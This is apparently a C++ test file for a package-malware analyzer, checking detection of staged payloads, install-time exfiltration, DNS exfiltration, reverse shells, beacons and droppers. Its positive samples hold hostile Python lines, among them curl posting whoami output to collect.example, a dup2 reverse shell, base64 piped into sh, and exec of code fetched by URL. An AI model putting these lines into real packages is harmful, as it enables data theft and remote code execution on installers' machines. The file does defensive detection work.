// Techniques whose evidence is one step removed from a plain call: a command decoded by a helper
// function, curl or wget started as a program, host identity put into a command line, DNS
// lookups through ping/nslookup, reverse shells built on dup2, a decode piped into a shell, and
// an install hook that reports to a catcher host. Each has a positive and a negative case.
#include <catch2/catch.hpp>

#include <algorithm>

#include "analyzer/engine/analyzer.h"
#include "tests/support/engine_samples.h"

using namespace tarsier;
using test::has;
using test::sample_ref;
using test::shared_analyzer;

namespace {

PackageAnalysis run(const std::string& file, const std::string& code) {
  return shared_analyzer().analyze(sample_ref("pkg"), {{file, code}}, {});
}

}  // namespace

TEST_CASE("a constant run through a decoding helper is a staged payload", "[engine][python]") {
  const std::string helper =
      "import base64, os\n"
      "def unpack(text):\n"
      "    raw = base64.b64decode(text.encode())\n"
      "    return raw.decode()\n";
  auto a = run("pkg/tool.py", helper + "os.system(unpack('ZWNobyBoaWRkZW4gdGV4dAo='))\n");
  CHECK(has(a.threats, "staged-payload"));
  CHECK(a.risk >= Risk::high);

  SECTION("a helper that decodes run-time data before a fixed command is not") {
    auto b = run("pkg/tool.py", helper +
                                    "os.system(quote('echo plain words here'))\n"
                                    "config = unpack(read_config())\n");
    CHECK_FALSE(has(b.threats, "staged-payload"));
    CHECK(b.risk < Risk::high);
  }
}

TEST_CASE("curl started from setup.py with host identity is install-time exfiltration",
          "[engine][python]") {
  auto a = run("setup.py",
               "import subprocess\n"
               "cmd = 'curl -s -d \"$(whoami)\" https://collect.example/in'\n"
               "subprocess.run(cmd, shell=True)\n");
  CHECK(has(a.threats, "exfiltration"));
  CHECK(a.risk >= Risk::high);

  auto b = run("setup.py",
               "import os, subprocess\n"
               "user = os.popen('whoami').read()\n"
               "subprocess.run(['curl', '-s', 'https://collect.example/' + user])\n");
  CHECK(has(b.threats, "exfiltration"));

  SECTION("curl fetching a vendored file at install time stays medium") {
    auto c = run("setup.py",
                 "import subprocess\n"
                 "subprocess.run(['curl', '-o', 'data.json', DATA_URL])\n");
    CHECK_FALSE(has(c.threats, "exfiltration"));
    CHECK(c.risk == Risk::medium);
  }
}

TEST_CASE("ping or nslookup of a name built from host identity is DNS exfiltration",
          "[engine][python]") {
  auto a = run("pkg/__init__.py",
               "import os, getpass\n"
               "label = getpass.getuser().encode().hex()\n"
               "os.system('ping -c 1 %s' % (label + '.t.example'))\n");
  CHECK(has(a.threats, "exfiltration"));
  CHECK(a.risk >= Risk::high);

  SECTION("pinging a configured host is not") {
    auto b = run("pkg/__init__.py",
                 "import os, getpass\n"
                 "user = getpass.getuser()\n"
                 "os.system('ping -c 1 localhost')\n");
    CHECK_FALSE(has(b.threats, "exfiltration"));
    CHECK(b.risk < Risk::high);
  }
}

TEST_CASE("a socket duplicated onto standard input and output before a shell is a reverse shell",
          "[engine][python]") {
  auto a = run("pkg/__init__.py",
               "import os, pty\n"
               "def attach(conn):\n"
               "    os.dup2(conn.fileno(), 0)\n"
               "    os.dup2(conn.fileno(), 1)\n"
               "    pty.spawn('/bin/sh')\n");
  CHECK(has(a.threats, "reverse-shell"));
  CHECK(a.risk >= Risk::high);

  SECTION("a daemon redirecting its streams to /dev/null is not") {
    auto b = run("pkg/__init__.py",
                 "import os\n"
                 "def detach(null):\n"
                 "    os.dup2(null.fileno(), 0)\n"
                 "    os.dup2(null.fileno(), 1)\n"
                 "    serve_forever()\n");
    CHECK_FALSE(has(b.threats, "reverse-shell"));
  }
}

TEST_CASE("a base64 decode piped into a shell is a staged payload", "[engine][python]") {
  auto a = run("pkg/run.py", "import os\nos.system('echo ' + blob + ' | base64 -d | sh')\n");
  CHECK(has(a.threats, "staged-payload"));
  CHECK(a.risk >= Risk::high);
  auto b = run("pkg/run.py", "import os\nos.system('base64 -d key.b64 > key.bin')\n");
  CHECK_FALSE(has(b.threats, "staged-payload"));
}

TEST_CASE("an install hook that talks to a catcher host is a beacon", "[engine][python]") {
  auto a = run("setup.py",
               "import requests\n"
               "requests.get('https://abc123.m.pipedream.net/ping')\n");
  CHECK(has(a.threats, "exfiltration"));
  CHECK(a.risk >= Risk::high);

  SECTION("the same request in runtime code stays below high") {
    auto b = run("pkg/client.py",
                 "import requests\n"
                 "requests.get('https://abc123.m.pipedream.net/ping')\n");
    CHECK(b.risk < Risk::high);
  }
  SECTION("an install hook that talks to an ordinary host stays medium") {
    auto c = run("setup.py",
                 "import requests\n"
                 "requests.get('https://files.example.org/version.txt')\n");
    CHECK(c.risk == Risk::medium);
  }
}

TEST_CASE("code fetched and run in one expression is a staged payload", "[engine][python]") {
  // The line is a string written to a temporary file and run later; the text still counts.
  auto a = run("pkg/visual.py",
               "from tempfile import NamedTemporaryFile\n"
               "tmp = NamedTemporaryFile(delete=False)\n"
               "tmp.write(b\"from urllib.request import urlopen;"
               "exec(urlopen('https://code.example/x').read())\")\n");
  CHECK(has(a.threats, "staged-payload"));
  CHECK(a.risk >= Risk::high);
  auto b = run("pkg/visual.py",
               "from urllib.request import urlopen\n"
               "page = urlopen('https://docs.example/x').read()\n"
               "exec(compile(open('local.py').read(), 'local.py', 'exec'))\n");
  CHECK_FALSE(has(b.threats, "staged-payload"));
}

TEST_CASE("a template literal or selector named like a command is not host identity",
          "[engine][python]") {
  // `id` in a JavaScript template and $(id) in jQuery are not command substitutions.
  auto a = run("dist/table.js",
               "const q = `id`;\nconst el = $(id);\n"
               "fetch('https://bit.ly/x' + q);\n");
  CHECK_FALSE(has(a.threats, "exfiltration"));
}

TEST_CASE("an install-time lookup of a host decoded from a constant is high", "[engine][python]") {
  auto a = run("setup.py",
               "import base64, socket\n"
               "ip = socket.gethostbyname(base64.b64decode('ZXhhbXBsZS5vcmc='))\n");
  CHECK(has(a.threats, "install-exec"));
  CHECK(a.risk >= Risk::high);

  SECTION("a decoded constant far from the request stays medium") {
    std::string code = "import base64, requests\nkey = base64.b64decode('ZXhhbXBsZS5vcmc=')\n";
    // The import next to the decode is network use too, but not a request.
    code += std::string(1024, '\n') + "# padding\n" + std::string(200, '\n');
    code += "requests.get('https://files.example.org/version.txt')\n";
    auto b = run("setup.py", code);
    CHECK(b.risk == Risk::medium);
  }
}

TEST_CASE("a download written to a kept temporary file and run is a dropper", "[engine][python]") {
  auto a = run("pkg/__init__.py",
               "import requests, subprocess, tempfile\n"
               "body = requests.get(SOURCE).content\n"
               "with tempfile.NamedTemporaryFile(delete=False) as f:\n"
               "    f.write(body)\n"
               "subprocess.call(f.name, shell=True)\n");
  CHECK(has(a.threats, "dropper"));
  CHECK(a.risk >= Risk::high);
  auto b = run("pkg/__init__.py",
               "import requests, subprocess, tempfile\n"
               "body = requests.get(SOURCE).content\n"
               "with tempfile.NamedTemporaryFile() as f:\n"
               "    f.write(body)\n"
               "subprocess.call(['git', 'status'])\n");
  CHECK_FALSE(has(b.threats, "dropper"));
}
